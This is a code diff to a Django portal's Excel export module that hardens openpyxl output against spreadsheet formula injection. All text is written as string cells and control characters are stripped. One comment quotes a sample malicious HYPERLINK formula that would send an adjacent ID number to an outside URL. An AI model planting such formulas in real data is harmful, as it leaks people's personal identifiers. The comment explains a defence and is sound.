@@ -13,8 +13,11 @@ import io
 from collections.abc import Callable, Iterable, Iterator
 from dataclasses import dataclass
 
+from django.utils.functional import Promise
 from django.utils.translation import gettext_lazy as _
 from openpyxl import Workbook, load_workbook
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
 from openpyxl.styles import Font, PatternFill
 from openpyxl.utils import get_column_letter
 
@@ -105,37 +108,79 @@ ERROR_HEADER = "错误原因"
 HEADER_FILL = PatternFill("solid", fgColor="DDEBF7")
 
 
-def write_workbook(
-    title: str, columns: list[Column], rows: Iterable[dict], *, errors: dict[int, str] | None = None
-) -> bytes:
-    """A workbook with one sheet: bold Chinese headers, then one line per row (values written by column)."""
-    book = Workbook(write_only=True)
+# --- Writing: every workbook the portal hands out is written here -------------------------------------------
+#
+# Text is always written as a string cell, whatever it begins with. openpyxl turns any str that begins
+# with "=" into a formula, so a household address such as =HYPERLINK("http://…?"&J2,"详情") typed by one
+# person would become a live link, carrying the ID number beside it, in the workbook another person
+# downloads; text beginning with "+", "-", "@", a tab or a carriage return is read as a formula by
+# spreadsheet programs too (docs/sources.md [P1]). A string cell is never evaluated, whatever it starts
+# with, so the text is kept exactly as it was written — no apostrophe or space put in front — and an
+# export re-imports as it was exported. Numbers and dates the code writes stay numbers and dates.
+
+
+def _cell(sheet, value, *, header: bool = False):
+    """The value to append to ``sheet``: text as a string cell (see above), anything else as it is."""
+    if isinstance(value, Promise):  # a lazily translated label
+        value = str(value)
+    if not isinstance(value, str):
+        return value
+    # Control characters other than tab, line feed and carriage return cannot be stored in a workbook
+    # at all (openpyxl refuses the whole file); they are dropped rather than failing the export.
+    if ILLEGAL_CHARACTERS_RE.search(value):
+        value = ILLEGAL_CHARACTERS_RE.sub("", value)
+    if not header and not value.startswith("=") and value not in ERROR_CODES:
+        # openpyxl stores any other str as a string cell itself; a cell object for each would make a
+        # large export much slower (tests/test_export_formulas.py checks every kind of text either way).
+        return value
+    cell = WriteOnlyCell(sheet, value=value)
+    cell.data_type = "s"  # set after the value: assigning it makes "=…" a formula ("f"), "#N/A" an error
+    if header:
+        cell.font = Font(bold=True)
+        cell.fill = HEADER_FILL
+    return cell
+
+
+def new_workbook() -> Workbook:
+    """An empty workbook, written row by row (an export of 50,000 rows never holds them all as cells)."""
+    return Workbook(write_only=True)
+
+
+def add_sheet(book: Workbook, title: str, headers: list, *, widths: dict[str, int] | None = None):
+    """A sheet of ``book`` with bold headers on a coloured row; ``widths`` by column letter."""
     sheet = book.create_sheet(title)
-    for i, column in enumerate(columns, start=1):
-        sheet.column_dimensions[get_column_letter(i)].width = column.width
-    headers = [c.header for c in columns] + ([ERROR_HEADER] if errors is not None else [])
-    sheet.append(styled(sheet, headers))
-    for n, row in enumerate(rows):
-        if errors is None:
-            values = [column.write(row.get(column.key)) for column in columns]
-        else:  # rows handed back as the user wrote them, with the reason beside them
-            values = [row.get(column.key) for column in columns] + [errors.get(n, "")]
-        sheet.append(values)
+    for letter, width in (widths or {}).items():
+        sheet.column_dimensions[letter].width = width
+    sheet.append([_cell(sheet, header, header=True) for header in headers])
+    return sheet
+
+
+def append_row(sheet, values: Iterable) -> None:
+    """One line of ``sheet``: the only way a value from the database goes into a workbook."""
+    sheet.append([_cell(sheet, value) for value in values])
+
+
+def workbook_bytes(book: Workbook) -> bytes:
     out = io.BytesIO()
     book.save(out)
     return out.getvalue()
 
 
-def styled(sheet, headers):
-    from openpyxl.cell import WriteOnlyCell
-
-    cells = []
-    for header in headers:
-        cell = WriteOnlyCell(sheet, value=header)
-        cell.font = Font(bold=True)
-        cell.fill = HEADER_FILL
-        cells.append(cell)
-    return cells
+def write_workbook(
+    title: str, columns: list[Column], rows: Iterable[dict], *, errors: dict[int, str] | None = None
+) -> bytes:
+    """A workbook with one sheet: bold Chinese headers, then one line per row (values written by column)."""
+    book = new_workbook()
+    headers = [c.header for c in columns] + ([ERROR_HEADER] if errors is not None else [])
+    widths = {get_column_letter(i): column.width for i, column in enumerate(columns, start=1)}
+    sheet = add_sheet(book, title, headers, widths=widths)
+    for n, row in enumerate(rows):
+        if errors is None:
+            values = [column.write(row.get(column.key)) for column in columns]
+        else:  # rows handed back as the user wrote them, with the reason beside them
+            values = [row.get(column.key) for column in columns] + [errors.get(n, "")]
+        append_row(sheet, values)
+    return workbook_bytes(book)
 
 
 @dataclass
